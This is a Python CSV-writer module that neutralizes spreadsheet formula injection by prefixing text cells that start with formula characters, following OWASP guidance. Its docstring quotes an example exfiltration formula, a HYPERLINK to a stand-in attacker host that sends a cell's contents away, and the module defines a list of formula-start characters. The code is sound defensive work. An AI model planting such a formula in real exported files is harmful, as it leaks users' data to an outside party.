"""The one CSV writer of the project: cells a spreadsheet would run as a formula are neutralized.

A spreadsheet program (Excel, LibreOffice Calc, Google Sheets) runs a cell that starts with
``=``, ``+``, ``-`` or ``@`` as a formula, and a tab or carriage return at the start lets a cell
break out into the next one; a formula such as ``=HYPERLINK("http://evil.example/?"&A1, "…")``
sends the sheet's data away when the treasurer clicks it. Following the OWASP recommendation
(https://owasp.org/www-community/attacks/CSV_Injection), every *text* cell that starts with one
of these characters is written with a single quote in front, which the spreadsheet shows but
does not run. The stored data is never changed: only the file is.

Numbers the project itself writes (``int`` and ``Decimal``: minutes, hours, amounts, including
negative adjustments such as ``-1.50``) are written as numbers, unquoted and unprefixed, so that
the columns still add up in a spreadsheet; a number cannot carry a formula. Everything else,
whatever a person typed (names, descriptions, references), is text and always neutralized, even
when it looks like a number ("-1.50" typed as a description comes out as "'-1.50").
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

# OWASP's list (= + - @ tab carriage-return), the line feed that Kimai guards as well, and the
# fullwidth forms that some spreadsheet locales read as their ASCII twins.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")

CONTENT_TYPE = "text/csv; charset=utf-8"


def neutralize(value: Any) -> Any:
    """The cell as written to the file: numbers as they are, text guarded against formulas."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int):
        return value
    if isinstance(value, Decimal):
        return f"{value:f}"
    text = str(value)
    if text and text[0] in FORMULA_STARTS:
        return "'" + text
    return text


class SpreadsheetSafeWriter:
    """`csv.writer` with every cell passed through `neutralize`."""

    def __init__(self, out: io.TextIOBase | io.StringIO, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralize(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: io.TextIOBase | io.StringIO, **options: Any) -> SpreadsheetSafeWriter:
    """The writer every CSV of the project is written with (see the module docstring)."""
    return SpreadsheetSafeWriter(out, **options)
